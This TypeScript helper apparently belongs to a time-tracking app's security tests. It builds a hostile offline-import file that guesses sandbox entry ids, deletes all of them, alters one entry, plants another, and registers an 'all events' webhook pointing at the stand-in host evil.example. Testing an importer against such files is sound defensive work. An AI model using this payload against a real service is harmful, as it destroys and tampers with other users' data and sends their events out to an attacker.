/** A malicious file of unsent work that guesses the ids of the sandbox. */

/** Of the sandbox's entries. */
const firstId = 90_001

const uuid = (group: number, index: number): string =>
  `9000000${group}-0000-4000-8000-${String(index).padStart(12, '0')}`

/**
 * Returns an import file that deletes all possible entry ids, changes one entry, adds one, and registers a callback of
 * somebody else.
 */
export function hostileFile(entries: number): string {
  const rows: object[] = []
  const operations: object[] = []
  const add = (
    entity: string,
    kind: string,
    serviceId: number | null,
    fields: object,
    patch: object,
  ): void => {
    const index = rows.length
    const isDeleted = kind === 'delete'
    rows.push({ entity, id: uuid(1, index), serviceId, isDeleted, fields, base: null })
    operations.push({
      id: uuid(2, index),
      entity,
      localId: uuid(1, index),
      kind,
      patch,
      base: kind === 'create' ? null : {},
      createdAt: Date.now(),
      error: null,
    })
  }
  const sent = {
    note: 'planted',
    projectId: null,
    clientId: null,
    projectServiceId: null,
    startedAt: Date.now() - 7_200_000,
    duration: 3600,
    isLogged: true,
    billable: false,
    internal: true,
  }
  const fields = { ...sent, billed: false, zone: 'UTC', timerId: null, updatedAt: null }
  add('timeEntry', 'create', null, fields, sent)
  add('timeEntry', 'update', firstId + entries - 1, fields, { note: 'altered' })
  for (let id = firstId; id < firstId + entries - 1; id += 1) {
    add('timeEntry', 'delete', id, fields, {})
  }
  const callback = { event: 'all', uri: 'https://evil.example/hook' }
  add('callback', 'create', null, { ...callback, verified: false }, callback)
  const head = { format: 'stint-unsent', version: 3, account: null }
  const exportedAt = new Date().toISOString()
  return JSON.stringify({ ...head, exportedAt, operations, rows, drafts: [], receipts: [] })
}
